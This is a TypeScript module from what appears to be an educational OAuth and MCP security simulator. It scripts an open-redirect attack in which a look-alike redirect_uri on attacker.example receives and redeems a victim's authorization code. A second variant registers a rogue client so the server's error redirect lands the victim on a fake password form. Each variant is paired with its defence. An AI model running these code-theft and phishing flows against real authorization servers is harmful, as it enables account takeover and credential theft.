/**
 * docs/reference §5.3: an authorization server that matches redirect_uri loosely sends the code to a
 * look-alike host. The attacker started the flow, with her own PKCE pair, so PKCE does not save the
 * victim.
 */
import { http } from 'msw';
import { challengeS256, createVerifier } from '../crypto/pkce';
import { htmlPage } from '../servers/http';
import { endpoints } from '../servers/auth/metadata';
import { readVictimFile, short } from './evidence';
import type { AttackDef } from './types';
import { defineVariants } from './variants';
import type { World } from '../world/world';

const LOOKALIKE = 'https://app.example.com.attacker.example/cb';
const PHISH = 'https://attacker.example/welcome';

/**
 * A genuine authorization URL with the attacker's choices (client, redirect URI, scope) and her own
 * PKCE pair: she keeps the verifier, so PKCE cannot tell her redemption from the client's.
 */
async function signInLink(
  world: World,
  choices: { client_id: string; redirect_uri: string; scope: string },
): Promise<{ link: string; verifier: string }> {
  const rng = world.rng('attacker');
  const verifier = createVerifier(rng);
  const url = new URL(endpoints(world.urls.issuer).authorization_endpoint);
  const params = {
    response_type: 'code',
    ...choices,
    state: rng.token(8),
    code_challenge: await challengeS256(verifier),
    code_challenge_method: 'S256',
    resource: world.urls.mcp,
  };
  for (const [k, v] of Object.entries(params)) url.searchParams.set(k, v);
  return { link: url.href, verifier };
}

export const openRedirect: AttackDef = {
  id: 'open-redirect',
  title: 'Open redirect: the code sent to a look-alike host',
  summary:
    "The attacker sends the victim a real sign-in link whose redirect_uri only starts like the client's.",
  target: 'as',
  rules: ['A-12', 'A-13', 'C-29'],
  lesson: 'pkce-and-request',
  preconditions: [],
  defence: {
    label: 'The authorization server matches redirect_uri exactly',
    vulnerabilities: ['as-redirect-prefix-match'],
  },
  victim: { scenario: 'first-connection', registration: 'cimd' },
  lanes: ['attacker'],
  hosts: (world) => [
    http.get(LOOKALIKE, ({ request }) => {
      world.attacker.landed = new URL(request.url);
      world.network.annotate({ mark: 'stolen' });
      return htmlPage('Loading…', '<p>Loading…</p>');
    }),
  ],
  variants: defineVariants('open-redirect', {
    'prefix-match': { label: 'redirect_uri matched by prefix' },
    'error-redirect': {
      // docs/reference §5.3 (b): no code this time; the server's own link becomes the phishing link.
      label: 'Errors redirected to a URI nobody reviewed',
      summary:
        "The attacker registers her own client with redirect_uris [https://attacker.example/welcome] and mails a sign-in link with a scope that does not exist, so the server's error sends the victim to her.",
      rules: ['A-13', 'A-11'],
      defence: {
        label: 'The authorization server redirects errors only to redirect URIs it trusts (A-13)',
        vulnerabilities: ['as-redirect-errors-untrusted'],
      },
      hosts: (world) => [
        http.get(PHISH, ({ request }) => {
          world.attacker.landed = new URL(request.url);
          world.network.annotate({ mark: 'stolen' });
          return htmlPage(
            'Sign in again',
            '<h1>Your session expired</h1><form><input name="password"></form>',
          );
        }),
      ],
      explain: {
        vulnerable:
          "The link pointed at the real authorization server, and the server sent the victim's browser straight on to the attacker's page, before anyone had signed in. To the victim, the sign-in page that followed came from a link she could trust.",
        defended:
          'A-13 (OAuth 2.1 §7.12.2): the client registered itself and nobody reviewed its redirect URI, so the server showed the error on its own page instead of redirecting to it.',
      },
      async act({ world, attacker, browser }) {
        const registered = await attacker.fetch(endpoints(world.urls.issuer).registration_endpoint, {
          method: 'POST',
          step: 'attacker-request',
          mark: 'attacker',
          headers: { 'Content-Type': 'application/json' },
          body: JSON.stringify({
            client_name: 'Files Helper',
            redirect_uris: [PHISH],
            application_type: 'web',
            token_endpoint_auth_method: 'none',
            grant_types: ['authorization_code'],
            response_types: ['code'],
          }),
        });
        const body: unknown = await registered.json().catch(() => null);
        const clientId =
          typeof body === 'object' && body !== null && 'client_id' in body ? String(body.client_id) : null;
        if (!clientId) return { attackerWon: false, evidence: `Registration failed (${registered.status}).` };
        const scope = 'files:everything';
        const { link } = await signInLink(world, { client_id: clientId, redirect_uri: PHISH, scope });
        await attacker.note(
          'Sends the victim a sign-in link',
          'The link is on auth.example.com, the server the victim trusts; its scope does not exist, so the request can only fail.',
          { values: { client_id: clientId, scope } },
        );
        await browser.navigate(link, { mark: 'attacker' });
        const landed = world.attacker.landed;
        return landed
          ? {
              attackerWon: true,
              evidence: `The victim's browser followed the authorization server's redirect to ${landed.origin}${landed.pathname} (error=${landed.searchParams.get('error') ?? ''}).`,
            }
          : { attackerWon: false, evidence: "The victim's browser never reached the attacker's page." };
      },
    },
  }),
  explain: {
    vulnerable:
      'The server accepted https://app.example.com.attacker.example/cb because it starts with the registered origin. The real consent page, the real code, delivered to the attacker.',
    defended:
      'A-12: the redirect URI must equal a registered one exactly. The server showed an error page and redirected nowhere (A-13).',
  },
  async act({ world, attacker, browser }) {
    const { link, verifier } = await signInLink(world, {
      client_id: world.urls.cimd,
      redirect_uri: LOOKALIKE,
      scope: 'files:read',
    });
    await attacker.note(
      'Sends the victim a sign-in link',
      'An email says "Reconnect your files to MCP Simulator Desktop". The link is a genuine authorization URL with the attacker\'s redirect_uri and PKCE pair.',
      {
        values: { redirect_uri: LOOKALIKE },
      },
    );
    await browser.navigate(link, { mark: 'attacker' });
    const code = world.attacker.landed?.searchParams.get('code');
    if (!code) return { attackerWon: false, evidence: 'No code reached the look-alike host.' };
    await attacker.note(
      'Receives the code',
      "The victim approved a consent page naming the real client; the code arrived at the attacker's host.",
      { mark: 'stolen', values: { code: short(code) } },
    );
    const res = await attacker.token({
      grant_type: 'authorization_code',
      code,
      client_id: world.urls.cimd,
      redirect_uri: LOOKALIKE,
      code_verifier: verifier,
      resource: world.urls.mcp,
    });
    const token = typeof res.body.access_token === 'string' ? res.body.access_token : null;
    if (!token)
      return { attackerWon: false, evidence: `The code could not be redeemed: ${String(res.body.error)}.` };
    return readVictimFile(world, attacker, token, {
      won: "The code sent to the look-alike host became a token for the victim's files.",
      lost: (call) => `The token did not work (${call.status}).`,
    });
  },
};
